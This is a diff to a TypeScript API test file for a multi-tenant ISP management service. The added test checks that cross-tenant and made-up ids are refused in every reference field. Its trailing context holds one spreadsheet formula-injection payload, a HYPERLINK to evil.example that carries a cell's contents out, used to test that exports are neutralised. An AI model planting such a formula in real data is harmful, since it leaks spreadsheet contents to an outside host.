@@ -110,6 +110,59 @@ describe("stored references stay inside the tenant", () => {
   });
 });
 
+describe("every other stored reference", () => {
+  it("refuses another tenant's and a made-up id in each field that names a row, and stores nothing", async () => {
+    const random = "0e6f2d31-8c1a-4f57-b0a4-5d7a9c3e2b10";
+    const poolB = (await as(b, "POST", "/api/ip-pools", { name: "B pool 2", cidr: "10.79.0.0/29" })).body.pool.id;
+    const nasB = (await as(b, "POST", "/api/nas", { name: "B nas", ipAddress: "203.0.113.77" })).body.nas.id;
+    const subB = (
+      await as(b, "POST", "/api/subscribers", {
+        username: "b-ref",
+        password: "pass1234",
+        planId: (
+          await as(b, "POST", "/api/plans", { name: "B ref plan", downloadKbps: 1, uploadKbps: 1 })
+        ).body.plan.id,
+      })
+    ).body.subscriber.id;
+    const groupB = (await as(b, "GET", "/api/permission-groups")).body.items[0].id;
+    const poolA = (await as(a, "POST", "/api/ip-pools", { name: "A pool 2", cidr: "10.80.0.0/29" })).body.pool.id;
+    const cases: [string, string, (id: string) => Record<string, unknown>, number[]][] = [
+      [
+        "POST",
+        "/api/plans",
+        (id) => ({ name: `ref plan ${id.slice(0, 4)}`, downloadKbps: 1, uploadKbps: 1, ipPoolId: id }),
+        [400],
+      ],
+      ["POST", "/api/wireguard/peers", (id) => ({ nasId: id }), [400]],
+      ["POST", `/api/ip-pools/${poolA}/allocations`, (id) => ({ subscriberId: id }), [400]],
+      ["POST", "/api/invoices", (id) => ({ subscriberId: id, amountCents: 100, description: "x" }), [404]],
+      ["POST", "/api/transactions/payments", (id) => ({ subscriberId: id, amountCents: 100, description: "x" }), [404]],
+      [
+        "POST",
+        "/api/users",
+        (id) => ({ email: `u${id.slice(0, 4)}@a-refs.example`, password: "long-password-1", permissionGroupId: id }),
+        [400],
+      ],
+    ];
+    const foreignFor: Record<string, string> = {
+      "/api/plans": poolB,
+      "/api/wireguard/peers": nasB,
+      [`/api/ip-pools/${poolA}/allocations`]: subB,
+      "/api/invoices": subB,
+      "/api/transactions/payments": subB,
+      "/api/users": groupB,
+    };
+    for (const [method, path, body, statuses] of cases) {
+      for (const id of [foreignFor[path] ?? "", random]) {
+        const res = await as(a, method, path, body(id));
+        expect(statuses, `${path} ${id}`).toContain(res.status);
+        expect(["validation_error", "not_found"]).toContain(res.body.error.code);
+      }
+    }
+    expect((await as(a, "GET", "/api/invoices")).body.items).toEqual([]);
+  });
+});
+
 describe("exports", () => {
   it("never hands a spreadsheet a live formula from a subscriber's fields", async () => {
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
